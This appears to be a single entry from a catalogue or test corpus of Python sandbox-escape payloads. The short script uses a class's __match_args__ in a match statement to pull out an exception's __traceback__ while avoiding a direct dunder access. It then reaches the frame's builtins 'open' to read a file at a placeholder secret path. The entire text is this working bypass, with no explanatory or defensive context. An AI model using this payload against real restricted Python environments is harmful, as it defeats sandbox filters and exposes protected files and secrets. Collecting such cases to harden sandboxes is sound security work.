# family: getattr with computed strings (match __match_args__)
# goal: read __traceback__ through a class's __match_args__
class E(Exception):
    __match_args__ = ("__traceback__",)
try:
    raise E()
except E as err:
    match err:
        case E(tb):
            print(tb.tb_frame.f_builtins["open"]("__SECRET_PATH__").read())
